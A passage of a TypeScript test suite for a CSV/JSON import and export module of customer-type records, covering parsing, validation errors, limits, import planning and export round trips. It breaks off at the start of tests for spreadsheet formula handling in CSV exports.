import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import Papa from 'papaparse';
import { compareCodeUnits, type CachedProject } from '../../src/core/cache/model';
import { CacheSnapshot } from '../../src/core/cache/snapshot';
import { exportCsv, exportJson, pickedSnapshot } from '../../src/core/transfer/exportFile';
import { parseImportFile, type ImportParseResult } from '../../src/core/transfer/importFile';
import { importChanges, importEdits, planImport, projectOutside } from '../../src/core/transfer/importPlan';
import { IMPORT_LIMITS, type ImportRow } from '../../src/core/transfer/importRows';
import { likelySeparator, parseTransferChoices } from '../../src/core/transfer/transferArgs';
import { validateProjectCode, validateTypeName, validateTypeNo, validateVbotId } from '../../src/core/validation';

const UPDATED = '2026-01-01T00:00:00.000Z';

function rowsOf(result: ImportParseResult): ImportRow[] {
  assert.ok(result.ok, `expected ok, got ${JSON.stringify(result)}`);
  return result.rows;
}

function errorsOf(result: ImportParseResult) {
  assert.equal(result.ok, false, `expected errors, got ${JSON.stringify(result)}`);
  return (result as Extract<ImportParseResult, { ok: false }>).errors;
}

/** [line, code] pairs, the part of an error the UI relies on. */
function codesOf(result: ImportParseResult): Array<[number, string]> {
  return errorsOf(result).map((error) => [error.line, error.code]);
}

const row = (vbotId: string, projectCode: string, typeNo: string, typeName: string): ImportRow => ({
  vbotId,
  projectCode,
  typeNo,
  typeName,
});

function snapshotOf(projects: Array<{ vbotId: string; projectCode: string; types: Array<[string, string]> }>) {
  return new CacheSnapshot(
    projects.map((project) => ({
      vbotId: project.vbotId,
      projectCode: project.projectCode,
      types: project.types
        .map(([typeNo, typeName]) => ({ typeNo, typeName, updatedAt: UPDATED }))
        .sort((a, b) => compareCodeUnits(a.typeNo, b.typeNo)),
    })),
  );
}

describe('parseImportFile: CSV', () => {
  test('reads the export header, trims values, handles quotes and CRLF', () => {
    const csv = 'vbot_id,project_code,type_no,type_name\r\nv1, P1 ,VIP,"Khách ""VIP"", hạng 1"\r\nv1,P1,NEW,  Mới  \r\n';
    assert.deepEqual(rowsOf(parseImportFile('types.csv', csv)), [
      row('v1', 'P1', 'VIP', 'Khách "VIP", hạng 1'),
      row('v1', 'P1', 'NEW', 'Mới'),
    ]);
  });

  test('project cells repeated row after row are still read and checked on every row, at its own line', () => {
    // The reader reuses the last row's checked project values when the cells are the same: a repeated bad
    // cell must still be reported on each of its lines, and a cell that differs only by spaces or is blank
    // must still give its own value.
    const header = 'vbot_id,project_code,type_no,type_name\n';
    const good = `${header}v1, P1 ,A,Ay\nv1, P1 ,B,Bee\nv1,P1,C,Cee\n v1,,D,Dee\n v1,,E,Eee\nv2,P1,F,Eff\n`;
    assert.deepEqual(rowsOf(parseImportFile('x.csv', good, { projectCode: 'Q' })), [
      row('v1', 'P1', 'A', 'Ay'),
      row('v1', 'P1', 'B', 'Bee'),
      row('v1', 'P1', 'C', 'Cee'),
      row('v1', 'Q', 'D', 'Dee'),
      row('v1', 'Q', 'E', 'Eee'),
      row('v2', 'P1', 'F', 'Eff'),
    ]);
    const bad = `${header}v1,P1,A,Ay\nv1,P\u0001,B,Bee\nv1,P\u0001,C,Cee\nv1,,D,Dee\nv1,,E,Eee\nv1,P1,F,Eff\nv1,P1,A,Other\n`;
    assert.deepEqual(codesOf(parseImportFile('x.csv', bad)), [
      [3, 'controlChar'],
      [4, 'controlChar'],
      [5, 'emptyValue'],
      [6, 'emptyValue'],
      [8, 'duplicateInFile'],
    ]);
  });

  test('duplicates are found whether the codes come in order or not, per project, before and after the first out of order', () => {
    // The reader needs no lookup while a project's codes increase; a code out of order makes it index them all.
    const header = 'vbot_id,project_code,type_no,type_name\n';
    const lines = [
      'v,P,B,Bee', // 2
      'v,Q,A,Ay', // 3
      'v,P,C,Cee', // 4
      'v,P,C,Cee', // 5: the same as the last code of P, merged
      'v,P,B,Bee', // 6: out of order, the same as line 2, merged
      'v,Q,A,Other', // 7: conflicts with line 3
      'v,P,A,Ay', // 8: new, below every code of P
      'v,P,C,Other', // 9: conflicts with line 4
      'v,R,Z,Zed', // 10: a project first seen after the codes were indexed
      'v,R,Z,Zed', // 11: merged
      'v,R,Y,Why', // 12: new
      'v,R,Z,Other', // 13: conflicts with line 10
      'v,P,D,Dee', // 14: new
      'v,P,D,Other', // 15: conflicts with line 14
    ];
    const errors = errorsOf(parseImportFile('x.csv', header + lines.join('\n') + '\n'));
    assert.deepEqual(
      errors.map((e) => [e.line, e.code, e.firstLine]),
      [
        [7, 'duplicateInFile', 3],
        [9, 'duplicateInFile', 4],
        [13, 'duplicateInFile', 10],
        [15, 'duplicateInFile', 14],
      ],
    );
    const clean = lines.filter((line) => !line.endsWith('Other'));
    assert.deepEqual(rowsOf(parseImportFile('x.csv', header + clean.join('\n') + '\n')), [
      row('v', 'P', 'B', 'Bee'),
      row('v', 'Q', 'A', 'Ay'),
      row('v', 'P', 'C', 'Cee'),
      row('v', 'P', 'A', 'Ay'),
      row('v', 'R', 'Z', 'Zed'),
      row('v', 'R', 'Y', 'Why'),
      row('v', 'P', 'D', 'Dee'),
    ]);
    // In order throughout: the same code right after itself, and a code equal to an earlier one of another project.
    assert.deepEqual(codesOf(parseImportFile('x.csv', `${header}v,P,A,Ay\nv,Q,A,Other\nv,P,B,Bee\nv,P,B,Other\n`)), [
      [5, 'duplicateInFile'],
    ]);
  });

  test('accepts camelCase, Vietnamese and decorated headers, in any column order, and ignores extra columns', () => {
    for (const header of [
      'typeName,typeNo,projectCode,vbotId,note',
      'ten_kieu,ma_kieu,project_code,vbot_id,note',
      'Tên kiểu,Mã kiểu,Project Code,VBot-ID,note',
    ]) {
      const rows = rowsOf(parseImportFile('x.csv', `${header}\nName,NO,P,v,whatever\n`));
      assert.deepEqual(rows, [row('v', 'P', 'NO', 'Name')], header);
    }
  });

  test('a UTF-8 BOM is ignored', () => {
    const rows = rowsOf(parseImportFile('x.csv', '\uFEFFtype_no,type_name\nA,Ay\n', { vbotId: 'v', projectCode: 'p' }));
    assert.deepEqual(rows, [row('v', 'p', 'A', 'Ay')]);
  });

  test('semicolon and tab separated files (Excel in vi-VN / other tools)', () => {
    const expected = [row('v', 'p', 'A', 'x, y')];
    assert.deepEqual(rowsOf(parseImportFile('x.csv', 'vbot_id;project_code;type_no;type_name\nv;p;A;x, y\n')), expected);
    assert.deepEqual(rowsOf(parseImportFile('x.csv', 'vbot_id\tproject_code\ttype_no\ttype_name\nv\tp\tA\tx, y\n')), expected);
  });

  test('blank lines and Excel\'s empty ",,," rows are skipped, and line numbers stay exact', () => {
    const csv = 'type_no,type_name\n\nA,Ay\n,,\n  \nB,\n';
    assert.deepEqual(codesOf(parseImportFile('x.csv', csv, { vbotId: 'v', projectCode: 'p' })), [[6, 'emptyValue']]);
  });

  test('defaults fill missing vbotId/projectCode columns and empty cells; without defaults, an error', () => {
    const noProjectColumns = 'type_no,type_name\nA,Ay\n';
    assert.deepEqual(rowsOf(parseImportFile('x.csv', noProjectColumns, { vbotId: ' v ', projectCode: 'p' })), [row('v', 'p', 'A', 'Ay')]);
    const missing = errorsOf(parseImportFile('x.csv', noProjectColumns, { vbotId: 'v' }));
    assert.deepEqual(
      missing.map((e) => [e.line, e.code, e.field]),
      [[1, 'missingColumn', 'projectCode']],
    );

    const emptyCells = 'vbot_id,project_code,type_no,type_name\n,,A,Ay\nw,q,B,Bee\n';
    assert.deepEqual(rowsOf(parseImportFile('x.csv', emptyCells, { vbotId: 'v', projectCode: 'p' })), [
      row('v', 'p', 'A', 'Ay'),
      row('w', 'q', 'B', 'Bee'),
    ]);
    assert.deepEqual(codesOf(parseImportFile('x.csv', emptyCells)), [
      [2, 'emptyValue'],
      [2, 'emptyValue'],
    ]);
  });

  test('an invalid default is reported once', () => {
    const result = parseImportFile('x.csv', 'type_no,type_name\nA,Ay\n', { vbotId: 'v\u0007', projectCode: 'p' });
    assert.deepEqual(
      errorsOf(result).map((e) => [e.line, e.code, e.field]),
      [[0, 'controlChar', 'vbotId']],
    );
  });

  test('missing and duplicate columns', () => {
    assert.deepEqual(
      errorsOf(parseImportFile('x.csv', 'vbot_id,project_code,type_no\nv,p,A\n')).map((e) => [e.line, e.code, e.field]),
      [[1, 'missingColumn', 'typeName']],
    );
    assert.deepEqual(codesOf(parseImportFile('x.csv', 'vbot_id,project_code,type_no,ma_kieu,type_name\nv,p,A,A,n\n')), [
      [1, 'duplicateColumn'],
    ]);
    assert.deepEqual(codesOf(parseImportFile('x.csv', 'hello,world\n1,2\n')).length, 4);
  });

  test('malformed CSV: unterminated quote, wrong number of fields', () => {
    const header = 'vbot_id,project_code,type_no,type_name\n';
    assert.deepEqual(codesOf(parseImportFile('x.csv', `${header}v,p,A,Ay\nv,p,B,"unterminated\nv,p,C,Cee\n`)), [[3, 'badCsv']]);
    assert.deepEqual(codesOf(parseImportFile('x.csv', `${header}v,p,A,Ay,extra\nv,p,B\n`)), [
      [2, 'fieldCount'],
      [3, 'fieldCount'],
    ]);
  });

  test('a quoted newline is a control character, and later line numbers still match the file', () => {
    const csv = 'vbot_id,project_code,type_no,type_name\nv,p,A,"two\nlines"\nv,p,,B\n';
    assert.deepEqual(codesOf(parseImportFile('x.csv', csv)), [
      [2, 'controlChar'],
      [4, 'emptyValue'],
    ]);
  });

  test('empty file, header only', () => {
    assert.deepEqual(codesOf(parseImportFile('x.csv', '')), [[0, 'emptyFile']]);
    assert.deepEqual(codesOf(parseImportFile('x.csv', '\uFEFF \n')), [[0, 'emptyFile']]);
    assert.deepEqual(rowsOf(parseImportFile('x.csv', 'vbot_id,project_code,type_no,type_name\r\n')), []);
  });
});

describe('parseImportFile: values', () => {
  const header = 'vbot_id,project_code,type_no,type_name\n';

  test('length limits count characters (code points), after trimming', () => {
    const okRow = `${'v'.repeat(100)},${'p'.repeat(100)},${'Đ'.repeat(50)},${'😀'.repeat(255)}`;
    assert.equal(rowsOf(parseImportFile('x.csv', `${header} ${okRow} \n`)).length, 1);
    const result = parseImportFile(
      'x.csv',
      `${header}${'v'.repeat(101)},p,A,a\nv,${'p'.repeat(101)},B,b\nv,p,${'N'.repeat(51)},c\nv,p,D,${'x'.repeat(256)}\n`,
    );
    assert.deepEqual(
      errorsOf(result).map((e) => [e.line, e.code, e.field, e.max]),
      [
        [2, 'tooLong', 'vbotId', 100],
        [3, 'tooLong', 'projectCode', 100],
        [4, 'tooLong', 'typeNo', 50],
        [5, 'tooLong', 'typeName', 255],
      ],
    );
  });

  test('control characters, line separators and bidi overrides are rejected', () => {
    for (const bad of ['a\tb', 'a\u0000b', 'a\u007Fb', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'a\u202Eb', 'a\u2066b']) {
      const result = parseImportFile('x.json', JSON.stringify([{ vbotId: 'v', projectCode: 'p', typeNo: 'A', typeName: bad }]));
      assert.deepEqual(codesOf(result), [[1, 'controlChar']], JSON.stringify(bad));
    }
  });

  test('identical duplicates are merged; the same code with another name is an error', () => {
    const merged = parseImportFile('x.csv', `${header}v,p,A,Ay\nv,p,A, Ay \nv,q,A,Other project\n`);
    assert.deepEqual(rowsOf(merged), [row('v', 'p', 'A', 'Ay'), row('v', 'q', 'A', 'Other project')]);

    const conflict = errorsOf(parseImportFile('x.csv', `${header}v,p,A,Ay\nv,p,B,Bee\nv,p,A,Other\n`));
    assert.deepEqual(
      conflict.map((e) => [e.line, e.code, e.firstLine]),
      [[4, 'duplicateInFile', 2]],
    );
  });

  test('nothing half-parsed: one bad row among good ones gives no rows at all', () => {
    const result = parseImportFile('x.csv', `${header}v,p,A,Ay\nv,p,,Bee\nv,p,C,Cee\n`);
    assert.equal(result.ok, false);
    assert.equal('rows' in result, false);
  });

  test('the error list stops at the cap', () => {
    const lines = Array.from({ length: 500 }, () => 'v,p,,x').join('\n');
    const errors = errorsOf(parseImportFile('x.csv', header + lines));
    assert.equal(errors.length, IMPORT_LIMITS.maxErrors);
  });

  test('every error has a short English message', () => {
    const errors = errorsOf(parseImportFile('x.csv', `${header}v,p,,x\nv,p,A,\u0007\n`));
    for (const error of errors) assert.match(error.message, /^[\x20-\x7E]{3,100}$/);
  });
});

describe('parseImportFile: JSON', () => {
  test('an array of rows, with defaults for missing vbotId/projectCode', () => {
    const json = JSON.stringify([
      { typeNo: 'A', typeName: 'Ay' },
      { vbotId: 'w', projectCode: 'q', typeNo: 'B', typeName: 'Bee', extra: 1 },
    ]);
    assert.deepEqual(rowsOf(parseImportFile('x.json', json, { vbotId: 'v', projectCode: 'p' })), [
      row('v', 'p', 'A', 'Ay'),
      row('w', 'q', 'B', 'Bee'),
    ]);
    assert.deepEqual(codesOf(parseImportFile('x.json', json)), [
      [1, 'emptyValue'],
      [1, 'emptyValue'],
    ]);
  });

  test('the cache file format, and { projects } without version', () => {
    const cacheFile = {
      version: 1,
      projects: [
        { vbotId: 'v', projectCode: 'p', types: [{ typeNo: 'A', typeName: 'Ay', updatedAt: UPDATED }] },
        { vbotId: 'w', projectCode: 'q', types: [{ typeNo: 'B', typeName: 'Bee', updatedAt: UPDATED }] },
      ],
    };
    const expected = [row('v', 'p', 'A', 'Ay'), row('w', 'q', 'B', 'Bee')];
    assert.deepEqual(rowsOf(parseImportFile('customer-types.json', JSON.stringify(cacheFile))), expected);
    const { version: _version, ...withoutVersion } = cacheFile;
    assert.deepEqual(rowsOf(parseImportFile('x.json', JSON.stringify(withoutVersion))), expected);
    const projectsWithoutIds = { projects: [{ types: [{ typeNo: 'A', typeName: 'Ay' }] }] };
    assert.deepEqual(rowsOf(parseImportFile('x.json', JSON.stringify(projectsWithoutIds), { vbotId: 'v', projectCode: 'p' })), [
      row('v', 'p', 'A', 'Ay'),
    ]);
  });

  test('format is sniffed from content when the extension says nothing', () => {
    const result = parseImportFile('export.txt', '  [{"vbotId":"v","projectCode":"p","typeNo":"A","typeName":"Ay"}]');
    assert.equal(result.format, 'json');
    assert.equal(parseImportFile('export.txt', 'type_no,type_name\n', { vbotId: 'v', projectCode: 'p' }).format, 'csv');
  });

  test('malformed JSON and wrong shapes', () => {
    const bad = parseImportFile('x.json', '[\n  {"typeNo": "A",\n  "typeName": }\n]');
    assert.equal(errorsOf(bad)[0].code, 'badJson');
    assert.deepEqual(codesOf(parseImportFile('x.json', '{"types": []}')), [[0, 'badShape']]);
    assert.deepEqual(codesOf(parseImportFile('x.json', '"text"')), [[0, 'badShape']]);
    assert.deepEqual(codesOf(parseImportFile('x.json', '{"version": 2, "projects": []}')), [[0, 'badShape']]);
    assert.deepEqual(codesOf(parseImportFile('x.json', '[1, null, {"vbotId":"v","projectCode":"p","typeNo":"A","typeName":"Ay"}]')), [
      [1, 'badShape'],
      [2, 'badShape'],
    ]);
    assert.deepEqual(codesOf(parseImportFile('x.json', '{"projects": [{"vbotId": "v"}]}')), [[1, 'badShape']]);
    assert.deepEqual(codesOf(parseImportFile('x.json', '[{"vbotId":"v","projectCode":"p","typeNo":7,"typeName":"Ay"}]')), [
      [1, 'notString'],
    ]);
  });

  test('a JSON syntax error points at its line when the engine gives a position', () => {
    const bad = errorsOf(parseImportFile('x.json', '[\n{"typeNo": "A"}\n{"typeNo": "B"}\n]'));
    assert.equal(bad[0].code, 'badJson');
    assert.ok(bad[0].line === 3 || bad[0].line === 0, `line ${bad[0].line}`);
  });

  test('JSON duplicates: identical merged, conflicting rejected', () => {
    const dup = [row('v', 'p', 'A', 'Ay'), row('v', 'p', 'A', 'Ay'), row('v', 'p', 'A', 'Other')];
    assert.deepEqual(
      errorsOf(parseImportFile('x.json', JSON.stringify(dup))).map((e) => [e.line, e.code, e.firstLine]),
      [[3, 'duplicateInFile', 1]],
    );
  });
});

describe('parseImportFile: limits', () => {
  test('files over 5 MiB are refused before parsing, counting UTF-8 bytes', () => {
    const big = 'type_no,type_name\n' + 'A,' + 'x'.repeat(IMPORT_LIMITS.maxBytes);
    assert.deepEqual(codesOf(parseImportFile('x.csv', big)), [[0, 'tooLarge']]);
    // 2 million "ệ" is 2 M UTF-16 units but 6 MB of UTF-8.
    const multiByte = 'ệ'.repeat(2_000_000);
    assert.ok(multiByte.length < IMPORT_LIMITS.maxBytes);
    assert.deepEqual(codesOf(parseImportFile('x.csv', multiByte)), [[0, 'tooLarge']]);
  });

  test('50,000 rows are fine, 50,001 are not', () => {
    const header = 'vbot_id,project_code,type_no,type_name\n';
    const lines = (count: number) => Array.from({ length: count }, (_, i) => `v,p,T${i},Name ${i}`).join('\n');
    const started = performance.now();
    assert.equal(rowsOf(parseImportFile('x.csv', header + lines(50_000))).length, 50_000);
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 5_000, `50,000 rows took ${elapsed} ms`);
    assert.deepEqual(codesOf(parseImportFile('x.csv', header + lines(50_001))), [[50_002, 'tooManyRows']]);

    const json = JSON.stringify(Array.from({ length: 50_001 }, (_, i) => row('v', 'p', `T${i}`, 'n')));
    assert.deepEqual(codesOf(parseImportFile('x.json', json)), [[50_001, 'tooManyRows']]);
  });
});

describe('planImport', () => {
  test('splits rows into add, change, unchanged and new projects', () => {
    const snapshot = snapshotOf([
      {
        vbotId: 'v',
        projectCode: 'p',
        types: [
          ['A', 'Ay'],
          ['B', 'Bee'],
        ],
      },
    ]);
    const plan = planImport(snapshot, [
      row('v', 'p', 'A', 'Ay'),
      row('v', 'p', 'B', 'Bee 2'),
      row('v', 'p', 'C', 'Cee'),
      row('w', 'q', 'A', 'Ay'),
      row('w', 'q', 'B', 'Bee'),
    ]);
    assert.deepEqual(plan, {
      add: [row('v', 'p', 'C', 'Cee'), row('w', 'q', 'A', 'Ay'), row('w', 'q', 'B', 'Bee')],
      change: [{ vbotId: 'v', projectCode: 'p', typeNo: 'B', oldName: 'Bee', newName: 'Bee 2' }],
      unchanged: 1,
      newProjects: [{ vbotId: 'w', projectCode: 'q' }],
      inCodeOrder: false,
    });
  });

  test('an empty import plans nothing', () => {
    assert.deepEqual(planImport(CacheSnapshot.empty, []), { add: [], change: [], unchanged: 0, newProjects: [], inCodeOrder: false });
  });
});

describe('importEdits', () => {
  test('new projects, then an upsert per new type and per renamed type, in row order; unchanged rows edit nothing', () => {
    const snapshot = snapshotOf([
      {
        vbotId: 'v',
        projectCode: 'p',
        types: [
          ['A', 'Ay'],
          ['B', 'Bee'],
        ],
      },
    ]);
    const plan = planImport(snapshot, [
      row('w', 'q', 'Z', 'Zed'),
      row('v', 'p', 'B', 'Bee 2'),
      row('v', 'p', 'A', 'Ay'),
      row('v', 'p', 'C', 'Cee'),
      row('w', 'q', 'Y', 'Why'),
      row('x', 'r', 'A', 'Ay'),
    ]);
    assert.deepEqual(importEdits(plan), [
      { kind: 'addProject', vbotId: 'w', projectCode: 'q' },
      { kind: 'addProject', vbotId: 'x', projectCode: 'r' },
      { kind: 'upsert', vbotId: 'w', projectCode: 'q', typeNo: 'Z', typeName: 'Zed' },
      { kind: 'upsert', vbotId: 'v', projectCode: 'p', typeNo: 'C', typeName: 'Cee' },
      { kind: 'upsert', vbotId: 'w', projectCode: 'q', typeNo: 'Y', typeName: 'Why' },
      { kind: 'upsert', vbotId: 'x', projectCode: 'r', typeNo: 'A', typeName: 'Ay' },
      { kind: 'upsert', vbotId: 'v', projectCode: 'p', typeNo: 'B', typeName: 'Bee 2' },
    ]);
  });

  test('rows in code order: one upsertSorted per run of one project, holding the rows themselves; renames as upserts', () => {
    const snapshot = snapshotOf([{ vbotId: 'v', projectCode: 'p', types: [['B', 'Bee']] }]);
    const rows = [
      row('v', 'p', 'A', 'Ay'),
      row('v', 'p', 'B', 'Bee 2'),
      row('v', 'p', 'C', 'Cee'),
      row('w', 'q', 'A', 'Ay'),
      row('v', 'p', 'D', 'Dee'),
    ];
    const plan = planImport(snapshot, rows, true);
    assert.equal(plan.inCodeOrder, true);
    const edits = importEdits(plan);
    assert.deepEqual(edits, [
      { kind: 'addProject', vbotId: 'w', projectCode: 'q' },
      { kind: 'upsertSorted', vbotId: 'v', projectCode: 'p', types: [rows[0], rows[2]] },
      { kind: 'upsertSorted', vbotId: 'w', projectCode: 'q', types: [rows[3]] },
      { kind: 'upsertSorted', vbotId: 'v', projectCode: 'p', types: [rows[4]] },
      { kind: 'upsert', vbotId: 'v', projectCode: 'p', typeNo: 'B', typeName: 'Bee 2' },
    ]);
    const oneProject = planImport(CacheSnapshot.empty, [rows[0], rows[2]], true);
    assert.equal((importEdits(oneProject)[1] as { types: unknown }).types, oneProject.add, 'all the rows: the very same list');
  });

  test('an import with nothing new edits nothing', () => {
    const snapshot = snapshotOf([{ vbotId: 'v', projectCode: 'p', types: [['A', 'Ay']] }]);
    assert.deepEqual(importEdits(planImport(snapshot, [row('v', 'p', 'A', 'Ay')])), []);
    assert.deepEqual(importEdits(planImport(CacheSnapshot.empty, [])), []);
  });
});

describe('importChanges: the changes that create an import on VBot', () => {
  const snapshot = snapshotOf([
    {
      vbotId: 'v',
      projectCode: 'p',
      types: [
        ['A', 'Ay'],
        ['B', 'Bee'],
      ],
    },
  ]);
  const plan = planImport(snapshot, [
    row('v', 'p', 'B', 'Bee 2'),
    row('v', 'p', 'A', 'Ay'),
    row('v', 'p', 'C', 'Cee'),
    row('w', 'q', 'Z', 'Zed'),
  ]);
  const pick = (key: { vbotId: string; projectCode: string } | undefined) => key && [key.vbotId, key.projectCode];

  test('a create per new type, then a rename per renamed one (old name from the list); unchanged rows send nothing', () => {
    assert.deepEqual(importChanges(plan), [
      { op: 'create', vbotId: 'v', projectCode: 'p', after: { typeNo: 'C', typeName: 'Cee' }, id: 'import-0' },
      { op: 'create', vbotId: 'w', projectCode: 'q', after: { typeNo: 'Z', typeName: 'Zed' }, id: 'import-1' },
      {
        op: 'rename',
        vbotId: 'v',
        projectCode: 'p',
        before: { typeNo: 'B', typeName: 'Bee' },
        after: { typeNo: 'B', typeName: 'Bee 2' },
        id: 'import-2',
      },
    ]);
    assert.deepEqual(importChanges(planImport(snapshot, [row('v', 'p', 'A', 'Ay')])), []);
  });

  test('projectOutside: the first project of another VBotID, or outside a project-bound key; none when the profile may change all', () => {
    assert.deepEqual(pick(projectOutside(plan, { vbotId: 'v' })), ['w', 'q']);
    assert.equal(projectOutside(plan, { vbotId: '' }), undefined, 'a profile without a VBotID takes the file at its word');
    assert.deepEqual(pick(projectOutside(plan, { vbotId: '', projectCode: 'q' })), ['v', 'p']);
    assert.equal(projectOutside(planImport(snapshot, [row('w', 'q', 'Z', 'Zed')]), { vbotId: 'w', projectCode: 'q' }), undefined);
    // Unchanged rows are sent nowhere, so they are never outside.
    assert.equal(projectOutside(planImport(snapshot, [row('v', 'p', 'A', 'Ay')]), { vbotId: 'x' }), undefined);
  });
});

describe('parseTransferChoices: the mode and separator arguments', () => {
  test('absent, or not an object: no choice', () => {
    for (const arg of [undefined, null, 'create', 3, {}, { filePath: 'x.csv' }])
      assert.deepEqual(parseTransferChoices(arg), { ok: true, choices: {} });
  });

  test('the known values are taken', () => {
    assert.deepEqual(parseTransferChoices({ mode: 'create' }), { ok: true, choices: { mode: 'create' } });
    assert.deepEqual(parseTransferChoices({ mode: 'listOnly', separator: ';' }), {
      ok: true,
      choices: { mode: 'listOnly', separator: ';' },
    });
    assert.deepEqual(parseTransferChoices({ separator: ',' }), { ok: true, choices: { separator: ',' } });
  });

  test('likelySeparator: ";" first where decimals take a comma (where Excel lists with ";"), "," elsewhere', () => {
    assert.deepEqual(['vi', 'de', 'fr', 'en', 'en-GB', 'ja', 'not a tag!'].map(likelySeparator), [';', ';', ';', ',', ',', ',', ',']);
  });

  test('any other value refuses the call, naming the field', () => {
    for (const mode of ['Create', 'list', '', null, true, ['create']])
      assert.deepEqual(parseTransferChoices({ mode }), { ok: false, field: 'mode' });
    for (const separator of ['\t', ' ;', ',;', '', 0, null])
      assert.deepEqual(parseTransferChoices({ separator }), { ok: false, field: 'separator' });
  });
});

describe('export', () => {
  const snapshot = snapshotOf([
    {
      vbotId: 'v',
      projectCode: 'p',
      types: [
        ['B', 'Bee, "quoted"'],
        ['A', 'Ay'],
      ],
    },
    { vbotId: 'v', projectCode: 'other', types: [['X', 'Ex']] },
  ]);

  test('JSON: the array shape the importer reads, sorted, pretty', () => {
    assert.equal(
      exportJson(snapshot, 'v', 'p'),
      JSON.stringify([row('v', 'p', 'A', 'Ay'), row('v', 'p', 'B', 'Bee, "quoted"')], null, 2) + '\n',
    );
    assert.equal(exportJson(snapshot, 'v', 'missing'), '[]\n');
  });

  test('the types picked in the tree: only those, across projects, in the cache order; a type gone since is left out', () => {
    const ref = (projectCode: string, typeNo: string) => ({ vbotId: 'v', projectCode, typeNo });
    const picked = pickedSnapshot(snapshot, [ref('p', 'B'), ref('other', 'X'), ref('p', 'GONE'), ref('nowhere', 'A')]);
    assert.equal(picked.typeCount(), 2);
    const rows = [row('v', 'p', 'B', 'Bee, "quoted"'), row('v', 'other', 'X', 'Ex')];
    assert.equal(exportJson(picked), JSON.stringify(rows, null, 2) + '\n');
    assert.equal(
      exportCsv(picked, undefined, undefined, { bom: false }),
      'vbot_id,project_code,type_no,type_name\r\nv,p,B,"Bee, ""quoted"""\r\nv,other,X,Ex\r\n',
    );
    assert.deepEqual(rowsOf(parseImportFile('picked.csv', exportCsv(picked, undefined, undefined))), rows, 'import reads it back');
    assert.equal(pickedSnapshot(snapshot, []).typeCount(), 0);
  });

  test('CSV: BOM, standard header, RFC 4180 quoting, CRLF', () => {
    assert.equal(exportCsv(snapshot, 'v', 'p'), '\uFEFFvbot_id,project_code,type_no,type_name\r\nv,p,A,Ay\r\nv,p,B,"Bee, ""quoted"""\r\n');
    assert.equal(exportCsv(snapshot, 'v', 'missing', { bom: false }), 'vbot_id,project_code,type_no,type_name\r\n');
  });

  test('CSV with ";" (Excel where the list separator is ";"): semicolons between cells, a value with ";" quoted, commas left alone', () => {
    const withSemicolon = snapshotOf([
      {
        vbotId: 'v',
        projectCode: 'p',
        types: [
          ['A', 'Ay; bee'],
          ['B', 'Bee, "quoted"'],
        ],
      },
    ]);
    assert.equal(
      exportCsv(withSemicolon, 'v', 'p', { separator: ';' }),
      '\uFEFFvbot_id;project_code;type_no;type_name\r\nv;p;A;"Ay; bee"\r\nv;p;B;"Bee, ""quoted"""\r\n',
    );
    // And it reads back as the same rows: import finds the separator from the header.
    assert.deepEqual(rowsOf(parseImportFile('p.csv', exportCsv(withSemicolon, 'v', 'p', { separator: ';' }))), [
      row('v', 'p', 'A', 'Ay; bee'),
      row('v', 'p', 'B', 'Bee, "quoted"'),
    ]);
  });
});

describe('export → import round trip (property)', () => {
  // Characters that stress CSV and JSON: separators, quotes, spaces, escapes, non-BMP.
  const tricky = fc.constantFrom(',', ';', '"', "'", ' ', '\\', '=', '+', '-', '@', '#', 'Đ', 'ệ', '😀', '\u00A0', '{', '[');
  const textPiece = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 6 }), tricky);
  const validText = (validate: (value: unknown) => { ok: boolean }) =>
    fc
      .array(textPiece, { minLength: 1, maxLength: 12 })
      .map((pieces) => pieces.join('').trim())
      .filter((text) => validate(text).ok);

  const projectArbitrary = fc.record({
    vbotId: validText(validateVbotId),
    projectCode: validText(validateProjectCode),
    types: fc.uniqueArray(fc.tuple(validText(validateTypeNo), validText(validateTypeName)), {
      selector: ([typeNo]) => typeNo,
      maxLength: 15,
    }),
  });

  function snapshotFor(project: { vbotId: string; projectCode: string; types: Array<[string, string]> }) {
    const cached: CachedProject = {
      vbotId: project.vbotId,
      projectCode: project.projectCode,
      types: project.types
        .map(([typeNo, typeName]) => ({ typeNo, typeName, updatedAt: UPDATED }))
        .sort((a, b) => compareCodeUnits(a.typeNo, b.typeNo)),
    };
    return {
      snapshot: new CacheSnapshot([cached]),
      expected: cached.types.map((t) => row(cached.vbotId, cached.projectCode, t.typeNo, t.typeName)),
    };
  }

  test('CSV round-trips exactly', () => {
    fc.assert(
      fc.property(projectArbitrary, (project) => {
        const { snapshot, expected } = snapshotFor(project);
        const csv = exportCsv(snapshot, project.vbotId, project.projectCode);
        assert.deepEqual(rowsOf(parseImportFile('export.csv', csv)), expected);
        // And the re-imported rows plan no change at all.
        const plan = planImport(snapshot, expected);
        assert.equal(plan.unchanged, expected.length);
      }),
      { numRuns: 300 },
    );
  });

  test('CSV with ";" round-trips exactly', () => {
    fc.assert(
      fc.property(projectArbitrary, (project) => {
        const { snapshot, expected } = snapshotFor(project);
        const csv = exportCsv(snapshot, project.vbotId, project.projectCode, { separator: ';' });
        assert.ok(csv.startsWith('\uFEFFvbot_id;project_code;type_no;type_name\r\n'), 'a semicolon header');
        assert.deepEqual(rowsOf(parseImportFile('export.csv', csv)), expected);
      }),
      { numRuns: 300 },
    );
  });

  test('JSON round-trips exactly', () => {
    fc.assert(
      fc.property(projectArbitrary, (project) => {
        const { snapshot, expected } = snapshotFor(project);
        const json = exportJson(snapshot, project.vbotId, project.projectCode);
        assert.deepEqual(rowsOf(parseImportFile('export.json', json)), expected);
      }),
      { numRuns: 300 },
    );
  });
});

describe('spreadsheet formulas in CSV exports', () => {
  // papaparse's escapeFormulae characters: a cell starting with one of them is run by Excel.
  const FORMULA_START = /^[=+\-@\t\r]/;

  /** The cells of an exported CSV as a spreadsheet sees them (quotes of the CSV syntax removed). */
  function cellsOf(csv: string): string[] {
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true });
    assert.deepEqual(parsed.errors, []);
    return parsed.data.flat();
  }

  function roundTrip(types: Array<[string, string]>, vbotId = 'v', projectCode = 'p') {
    const snapshot = snapshotOf([{ vbotId, projectCode, types }]);
    const csv = exportCsv(snapshot, vbotId, projectCode);
    return {
      csv,
      rows: rowsOf(parseImportFile('export.csv', csv)),
      expected: snapshot.project(vbotId, projectCode)!.types.map((t) => row(vbotId, projectCode, t.typeNo, t.typeName)),
    };
  }

